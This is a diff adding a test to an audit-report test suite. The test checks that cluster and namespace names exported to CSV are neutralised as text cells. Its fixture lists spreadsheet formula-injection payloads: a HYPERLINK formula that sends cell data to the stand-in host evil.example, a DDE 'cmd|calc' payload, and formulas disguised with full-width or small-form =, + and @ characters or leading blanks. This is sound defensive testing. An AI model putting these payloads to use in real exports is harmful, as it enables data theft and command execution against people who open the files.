@@ -276,6 +276,56 @@ describe('audit reports over stored history', () => {
     expect(html.content).not.toMatch(/https?:\/\/(?!www\.w3\.org)/); // self-contained
   });
 
+  it('writes stored names that a spreadsheet would run, in any disguise, as text cells in the CSV', async () => {
+    // Cluster names come from kubeconfigs and phaselog.yaml, namespaces and names from clusters:
+    // each hostile one starts with blanks or a compatibility form of =, + or @.
+    const hostile = [
+      '\u3000=HYPERLINK("http://evil.example/?"&A1)',
+      ' =1+1',
+      '＝cmd|calc!A0',
+      '﹦1',
+      '＋1',
+      '＠SUM(A1)',
+    ];
+    const observed = { tickLastSeenAt: new Date(), snapshotIntervalMs: 3_600_000 };
+    for (const [n, name] of hostile.entries()) {
+      const cluster = await db.cluster.create({ data: { name, labels: {}, ...observed } });
+      const phase = await db.phase.create({
+        data: {
+          clusterId: cluster.id,
+          sourceKind: 'config',
+          namespace: hostile[(n + 1) % hostile.length] as string,
+          name: `csv-${n}`,
+          firstSeenAt: t('09:00'),
+          lastSeenAt: t('12:00'),
+        },
+      });
+      await insertPhaseInterval(db, {
+        phaseId: phase.id,
+        status: 'Current',
+        summary: { current: 1 },
+        from: t('09:00'),
+        to: null,
+      });
+    }
+    const csv = await createAuditReport(db, {
+      from: t('10:00'),
+      to: t('12:00'),
+      now: t('12:00'),
+      format: 'csv',
+      access: FULL_ACCESS,
+      selection: { clusters: hostile, namespaces: [], phases: [] },
+    });
+    const rows = csv.content.trim().split('\r\n').slice(1);
+    expect(rows).toHaveLength(hostile.length);
+    for (const row of rows) {
+      // cluster and namespace, the cells after the id (quoted when they hold a comma or a quote).
+      const cells = row.match(/^[^,]*,("(?:[^"]|"")*"|[^,]*),("(?:[^"]|"")*"|[^,]*),/)?.slice(1, 3) ?? [];
+      expect(cells).toHaveLength(2);
+      for (const cell of cells) expect(cell.replace(/^"/, '')).toMatch(/^'/);
+    }
+  });
+
   it('cuts a range that ends in the future at now', async () => {
     const { report } = await createAuditReport(db, {
       from: t('10:00'),
